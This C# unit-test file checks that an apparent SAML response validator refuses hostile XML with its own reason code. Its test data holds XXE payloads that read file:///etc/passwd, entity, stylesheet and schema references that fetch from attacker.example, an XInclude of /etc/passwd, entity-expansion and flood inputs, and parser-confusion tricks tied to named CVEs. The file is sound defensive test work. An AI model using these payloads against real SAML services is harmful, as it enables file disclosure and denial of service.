using System.IO.Compression;
using System.Text;
using JitGateway.Saml.Validation;
using JitGateway.Tests.TestInfra;

namespace JitGateway.Tests.Saml.Attacks;

/// <summary>XML that a parser might expand, fetch, misread or drown in.</summary>
public sealed class XmlTests
{
    private static readonly AttackList Attacks = new()
    {
        { "a document type declaration", "saml.xml.doctype", xml => "<!DOCTYPE Response>" + xml },
        { "an external entity", "saml.xml.doctype", xml => "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + xml.Swap("alice-0042", "&x;") },
        { "a parameter entity", "saml.xml.doctype", xml => "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/x.dtd\"> %x;]>" + xml },
        { "a billion laughs", "saml.xml.doctype", xml => "<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>" + xml },
        { "a document type declaration behind the XML declaration", "saml.xml.doctype", xml => "<?xml version=\"1.0\"?><!DOCTYPE r>" + xml },
        { "a document type declaration in lower case", "saml.xml.doctype", xml => "<!doctype r>" + xml },
        { "a document type declaration inside the root", "saml.xml.doctype", xml => xml.Before("<samlp:Status>", "<!DOCTYPE r>") },
        { "an entity that nothing defines", "saml.xml.entity", xml => xml.Swap("alice-0042", "alice&nbsp;0042") },
        { "an entity in an attribute", "saml.xml.entity", xml => xml.WithAttribute("samlp:Response", "Destination", "&acs;") },
        { "a processing instruction before the root", "saml.xml.processing_instruction", xml => "<?xml-stylesheet href=\"http://attacker.example/x.xsl\"?>" + xml },
        { "a processing instruction inside the NameID", "saml.xml.processing_instruction", xml => xml.Swap("alice-0042", "alice<?x?>-0042") },
        { "a processing instruction behind the root", "saml.xml.processing_instruction", xml => xml + "<?x?>" },
        { "an XML declaration in the middle", "saml.xml.processing_instruction", xml => xml.Before("<samlp:Status>", "<?xml version=\"1.0\"?>") },
        { "an XML declaration after a space", "saml.xml.processing_instruction", xml => " <?xml version=\"1.0\"?>" + xml },
        { "a second root", "saml.xml.trailing", xml => xml + xml },
        { "an empty element behind the root", "saml.xml.trailing", xml => xml + "<x/>" },
        { "text behind the root", "saml.xml.trailing", xml => xml + "x" },
        { "a comment behind the root", "saml.xml.trailing", xml => xml + "<!-- x -->" },
        { "an end tag behind the root", "saml.xml.trailing", xml => xml + "</samlp:Response>" },
        { "text before the root", "saml.xml.malformed", xml => "x" + xml },
        { "nothing", "saml.xml.malformed", _ => "" },
        { "white space", "saml.xml.malformed", _ => " \r\n" },
        { "no XML", "saml.xml.malformed", _ => "SAMLResponse" },
        { "half a message", "saml.xml.malformed", xml => xml[..(xml.Length / 2)] },
        { "a tag that is never closed", "saml.xml.malformed", xml => xml.Swap("</samlp:Response>", "</samlp:Response") },
        { "crossed tags", "saml.xml.malformed", xml => xml.Swap("</saml:NameID>", "</saml:Subject>") },
        { "an attribute twice", "saml.xml.malformed", xml => xml.Swap(" ID=\"_the-assertion\"", " ID=\"_the-assertion\" ID=\"_evil\"") },
        { "an attribute twice under two prefixes of one namespace", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status xmlns:a=\"urn:a\" xmlns:b=\"urn:a\" a:x=\"1\" b:x=\"2\">") },
        { "an attribute without quotes", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status a=b>") },
        { "an undeclared prefix", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status evil:a=\"\">") },
        { "an undeclared prefix of an element", "saml.xml.malformed", xml => xml.Before("<samlp:Status>", "<evil:x/>") },
        { "a prefix that is taken back", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status xmlns:samlp=\"\">") },
        { "the prefix xmlns declared", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status xmlns:xmlns=\"urn:x\">") },
        { "the prefix xml declared as another", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status xmlns:xml=\"urn:x\">") },
        { "an element whose name begins with a colon (CVE-2020-29511, Go)", "saml.xml.malformed", xml => xml.Before("<samlp:Status>", "<:x/>") },
        { "an attribute whose name begins with a colon (CVE-2020-29509, Go)", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status :a=\"\">") },
        { "a name with two colons", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status saml:a:b=\"\">") },
        { "an end tag with an attribute", "saml.xml.malformed", xml => xml.Swap("</samlp:Status>", "</samlp:Status a=\"\">") },
        { "a comment inside a tag", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status <!-- --> >") },
        { "the XML namespace under another prefix", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status xmlns:x=\"http://www.w3.org/XML/1998/namespace\">") },
        { "the xmlns namespace under another prefix", "saml.xml.malformed", xml => xml.Swap("<samlp:Status>", "<samlp:Status xmlns:x=\"http://www.w3.org/2000/xmlns/\">") },
        { "a document type declaration that ends in another one's quotes (CVE-2025-25291, ruby-saml)", "saml.xml.doctype", xml => "<!DOCTYPE r [<!NOTATION x SYSTEM '<!--'>]>" + xml + "<!-- '>]> -->" },
        { "a document type declaration inside a directive with a comment (CVE-2020-29510, Go)", "saml.xml.doctype", xml => xml.Before("<samlp:Status>", "<!x<!-- -->y>") },
        { "an external schema that a validating parser would fetch", "saml.signature.digest", xml => xml.Swap("<saml:Subject>", "<saml:Subject xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://attacker.example/x.xsd\">") },
        { "an inclusion that a processor would follow", "saml.signature.digest", xml => xml.Swap("alice@example.com", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>") },
        { "a processing instruction that hides the beginning of the name (OneUptime 2988)", "saml.xml.processing_instruction", xml => xml.Swap("alice-0042", "<?p not-?>alice-0042") },
        { "a reference to character zero", "saml.xml.malformed", xml => xml.Swap("alice-0042", "alice&#0;0042") },
        { "a reference to a character that XML forbids", "saml.xml.malformed", xml => xml.Swap("alice-0042", "alice&#x1;0042") },
        { "a reference to half a surrogate pair", "saml.xml.malformed", xml => xml.Swap("alice-0042", "alice&#xD800;0042") },
        { "a control character in the raw", "saml.xml.malformed", xml => xml.Swap("alice-0042", "alice\u00010042") },
        { "a noncharacter in the raw", "saml.xml.malformed", xml => xml.Swap("alice-0042", "alice\uFFFE0042") },
        { "the end of CDATA in text", "saml.xml.malformed", xml => xml.Swap("alice-0042", "alice]]>0042") },
        { "CDATA that is not closed", "saml.xml.malformed", xml => xml.Swap("alice-0042", "<![CDATA[alice-0042") },
        { "CDATA before the root", "saml.xml.malformed", xml => "<![CDATA[x]]>" + xml },
        { "a comment that is not closed", "saml.xml.malformed", xml => xml.Swap("alice-0042", "<!--alice-0042") },
        { "a comment with two hyphens", "saml.xml.malformed", xml => xml.Swap("alice-0042", "alice<!-- -- -->0042") },
        { "XML 1.1", "saml.xml.malformed", xml => "<?xml version=\"1.1\"?>" + xml },
        { "an angle bracket in an attribute", "saml.xml.malformed", xml => xml.WithAttribute("samlp:Response", "Destination", "<") },
        { "a byte order mark", "saml.xml.encoding", xml => "\uFEFF" + xml },
        { "a declaration of UTF-7", "saml.xml.encoding", xml => "<?xml version=\"1.0\" encoding=\"UTF-7\"?>" + xml },
        { "a declaration of Latin-1", "saml.xml.encoding", xml => "<?xml version='1.0' encoding='iso-8859-1'?>" + xml },
        { "a NUL in the NameID", "saml.xml.nul", xml => xml.Swap("alice-0042", "alice\00042") },
        { "a NUL behind the root", "saml.xml.nul", xml => xml + "\0" },
        { "65 levels", "saml.xml.too_deep", xml => xml.Before("<samlp:Status>", Nested(65)) },
        { "60,000 levels", "saml.xml.too_deep", xml => xml.Before("<samlp:Status>", Nested(60_000)) },
        { "33 namespaces on one element", "saml.xml.too_many_namespaces", xml => xml.Swap("<samlp:Status>", $"<samlp:Status{Namespaces(33)}>") },
        { "20,000 namespaces on one element", "saml.xml.too_many_namespaces", xml => xml.Swap("<samlp:Status>", $"<samlp:Status{Namespaces(20_000)}>") },
        { "129 namespaces in scope, on five levels", "saml.xml.too_many_namespaces", xml => xml.Before("<samlp:Status>", string.Concat(Enumerable.Range(0, 5).Select(i => $"<x{Namespaces(30, i * 100)}>")) + string.Concat(Enumerable.Repeat("</x>", 5))) },
        { "a namespace of 2,000 characters", "saml.xml.namespace_too_long", xml => xml.Swap("<samlp:Status>", $"<samlp:Status xmlns:x=\"{new string('u', 2000)}\">") },
        { "65 attributes on one element", "saml.xml.too_many_attributes", xml => xml.Swap("<samlp:Status>", $"<samlp:Status{Attributes(65)}>") },
        { "30,000 attributes on one element", "saml.xml.too_many_attributes", xml => xml.Swap("<samlp:Status>", $"<samlp:Status{Attributes(30_000)}>") },
        { "50,000 elements", "saml.xml.too_many_elements", xml => xml.Before("<samlp:Status>", string.Concat(Enumerable.Repeat("<x/>", 50_000))) },
        { "more than 512 KiB", "saml.xml.too_large", xml => xml.Swap("alice-0042", new string('a', 512 * 1024)) },
        { "a canonical form a hundred times the message", "saml.signature.canonical_too_large", Exploding },
    };

    private static readonly ResponseExpectations Expected = Exchange.Expected;

    public static TheoryData<string> Names => Attacks.Names;

    [Theory]
    [MemberData(nameof(Names))]
    public void Is_refused_with_its_own_reason(string attack) => Attacks.Run(attack);

    public static TheoryData<string, byte[], string> Encodings => new()
    {
        { "UTF-16 with mark", [.. Encoding.Unicode.Preamble, .. Encoding.Unicode.GetBytes(Genuine)], "saml.xml.nul" },
        { "UTF-16 without mark", Encoding.BigEndianUnicode.GetBytes(Genuine), "saml.xml.nul" },
        { "UTF-32", Encoding.UTF32.GetBytes(Genuine), "saml.xml.nul" },
        { "Latin-1", Encoding.Latin1.GetBytes(Genuine.Swap("alice-0042", "alicé")), "saml.xml.encoding" },
        { "an overlong slash", Raw("alice-0042", [0xC0, 0xAF]), "saml.xml.encoding" },
        { "half a character", Raw("alice-0042", [0xE2, 0x82]), "saml.xml.encoding" },
        { "a surrogate in UTF-8", Raw("alice-0042", [0xED, 0xA0, 0x80]), "saml.xml.encoding" },
        { "beyond the last character", Raw("alice-0042", [0xF5, 0x80, 0x80, 0x80]), "saml.xml.encoding" },
    };

    [Theory]
    [MemberData(nameof(Encodings))]
    public void Bytes_that_are_not_plain_UTF8_are_refused(string encoding, byte[] message, string reason)
    {
        ResponseValidator.Validate(message, Expected).TryGet(out _, out var refusal).ShouldBeFalse(encoding);

        refusal!.Reason.Id.Value.ShouldBe(reason);
    }

    /// <summary>POST messages are not compressed (Bindings 3.5.4), so nobody inflates a bomb (CVE-2025-25293, ruby-saml).</summary>
    [Fact]
    public void A_compressed_message_is_not_inflated()
    {
        using var compressed = new MemoryStream();
        using (var deflate = new DeflateStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true)) deflate.Write(Encoding.UTF8.GetBytes(Genuine.Before("<samlp:Status>", new string(' ', 5_000_000))));

        ResponseValidator.Validate(compressed.ToArray(), Expected).TryGet(out _, out var refusal).ShouldBeFalse();

        refusal!.Reason.Id.Value.ShouldBeOneOf("saml.xml.nul", "saml.xml.encoding");
    }

    [Fact]
    public void No_message_of_half_a_megabyte_takes_long()
    {
        string[] floods =
        [
            Genuine.Before("<samlp:Status>", string.Concat(Enumerable.Repeat("<x/>", 19_000))),
            Genuine.Before("<samlp:Status>", string.Concat(Enumerable.Repeat($"<x{Attributes(60)}/>", 800))),
            Genuine.Swap("alice-0042", new string('>', 500_000)),
            Genuine.Before("<samlp:Status>", string.Concat(Enumerable.Repeat(Nested(60), 150))),
            Genuine.Swap("<ds:SignatureValue>", "<ds:SignatureValue>" + new string(' ', 500_000)),
        ];
        foreach (var flood in floods)
        {
            // the best of some runs: the first ones are compiled on the way
            Enumerable.Range(0, 5).Min(_ => ThreadTime.Of(() => Exchange.Validate(flood))).ShouldBeLessThan(TimeSpan.FromMilliseconds(250), flood[..200]);
        }
    }

    private static string Genuine => Exchange.Good.ToXml(Exchange.Signer);

    private static byte[] Raw(string old, byte[] bytes)
    {
        var halves = Genuine.Split(old);
        return [.. Encoding.UTF8.GetBytes(halves[0]), .. bytes, .. Encoding.UTF8.GetBytes(halves[1])];
    }

    private static string Nested(int levels) => string.Concat(Enumerable.Repeat("<x>", levels)) + string.Concat(Enumerable.Repeat("</x>", levels));

    private static string Namespaces(int count, int from = 0) => string.Concat(Enumerable.Range(from, count).Select(i => $" xmlns:p{i}=\"urn:p\""));

    private static string Attributes(int count) => string.Concat(Enumerable.Range(0, count).Select(i => $" a{i}=\"\""));

    // a long namespace declared once outside is declared anew by every element that uses it first
    private static string Exploding(string xml) => xml
        .Swap("<samlp:Response ", $"<samlp:Response xmlns:x=\"{new string('u', 1000)}\" ")
        .Before("</saml:AttributeStatement>", string.Concat(Enumerable.Repeat("<x:a/>", 15_000)));
}
